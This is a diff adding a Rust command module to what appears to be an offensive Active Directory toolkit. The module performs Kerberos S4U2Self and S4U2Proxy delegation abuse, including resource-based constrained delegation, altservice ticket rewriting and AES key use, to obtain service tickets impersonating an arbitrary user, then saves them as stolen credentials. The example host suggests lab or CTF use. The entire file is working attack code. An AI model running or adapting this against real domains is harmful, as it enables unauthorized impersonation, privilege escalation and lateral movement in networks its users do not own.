@@ -0,0 +1,99 @@
+use clap::Args;
+use himmelblau_kerberos_constants::principal_names::NT_SRV_INST;
+
+use crate::{
+    app::App,
+    cli::commands::Command,
+    data::{AuthData, Credential, CredentialType},
+    kerberos::{
+        s4u::{alt_service, s4u2proxy, s4u2self},
+        tgs::DEFAULT_ETYPES,
+        ticket::{aes_key, encode_ticket, get_tgt, principal_name, request_tgt_with_key, session_ticket_from_ccache},
+        Etype,
+    },
+};
+
+#[derive(Debug, Args, Clone)]
+pub struct S4uArgs {
+    /// User to impersonate
+    #[arg(long)]
+    pub impersonate: String,
+
+    /// Service principal to get a ticket for (e.g. cifs/srv01.voleur.htb)
+    #[arg(long)]
+    pub spn: String,
+
+    /// Rewrite the service of the final ticket, either a service class (cifs) or a full service/host
+    #[arg(long)]
+    pub altservice: Option<String>,
+
+    /// Resource-based constrained delegation, the target trusts the service account
+    /// through msDS-AllowedToActOnBehalfOfOtherIdentity
+    #[arg(long)]
+    pub rbcd: bool,
+
+    /// AES128 or AES256 key of the service account, used instead of the current credential's secret
+    #[arg(long)]
+    pub aes_key: Option<String>,
+
+    /// Encryption type to request (defaults to RC4 with AES fallback)
+    #[arg(short, long, value_enum)]
+    pub etype: Option<Etype>,
+}
+
+impl Command for S4uArgs {
+    async fn execute(&self, app: &mut App) -> Result<bool, String> {
+        let (dc, creds) = app.get_current_context()?;
+        let etypes = match self.etype {
+            Some(etype) => vec![etype.into()],
+            None => DEFAULT_ETYPES.to_vec(),
+        };
+
+        let tgt = match &self.aes_key {
+            Some(key) => session_ticket_from_ccache(&request_tgt_with_key(&dc, &creds.username, &aes_key(key)?).await?)?,
+            None => get_tgt(&app.domain_controller_storage, &dc, &creds).await?,
+        };
+        let service_account = tgt.client_name.name_string.join("/");
+
+        let s4u2self_ccache = s4u2self(&dc, &tgt, &self.impersonate, &etypes).await?;
+        let s4u2self_ticket = session_ticket_from_ccache(&s4u2self_ccache)?;
+        println!("S4U2Self ticket obtained for {} to {}", self.impersonate, service_account);
+
+        let ccache = s4u2proxy(
+            &dc,
+            &tgt,
+            &s4u2self_ticket.ticket,
+            &principal_name(NT_SRV_INST, &self.spn),
+            &etypes,
+            self.rbcd,
+        )
+        .await?;
+        println!("S4U2Proxy ticket obtained for {}", self.spn);
+
+        let ccache = match &self.altservice {
+            Some(altservice) => alt_service(ccache, altservice)?,
+            None => ccache,
+        };
+        let ticket = session_ticket_from_ccache(&ccache)?;
+        println!("Service ticket for {} as {}", ticket.server_principal(), self.impersonate);
+
+        let mut new_creds = Credential::new_password(self.impersonate.clone(), String::new(), "S4U".to_string());
+        new_creds.auth_data = AuthData::KerberosTicket(encode_ticket(ccache));
+        new_creds.credential_type = CredentialType::Unknown;
+        new_creds.target_dc = Some(dc.domain_name.clone());
+        new_creds.set_metadata("spn".to_string(), ticket.server_principal());
+        new_creds.set_metadata("impersonated_by".to_string(), service_account);
+        new_creds.set_metadata("delegated_from".to_string(), creds.id.clone());
+        new_creds.set_metadata(
+            "delegation".to_string(),
+            if self.rbcd { "rbcd" } else { "constrained" }.to_string(),
+        );
+        if let Some(altservice) = &self.altservice {
+            new_creds.set_metadata("requested_spn".to_string(), self.spn.clone());
+            new_creds.set_metadata("altservice".to_string(), altservice.clone());
+        }
+        app.credential_storage().add_credential(new_creds)?;
+        println!("New credential added to storage !");
+        Ok(false)
+    }
+}